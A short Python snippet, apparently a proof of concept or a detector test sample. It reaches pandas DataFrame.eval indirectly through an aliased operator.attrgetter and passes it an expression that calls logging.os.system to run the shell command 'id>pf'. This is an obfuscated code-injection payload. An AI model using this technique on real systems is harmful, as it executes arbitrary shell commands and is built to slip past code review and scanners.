from operator import attrgetter as my_AG
import pandas as pd
import logging
my_AG('eval')(my_AG('DataFrame')(pd)({'a': [1]}))("b = @logging.os.system('id>pf')")
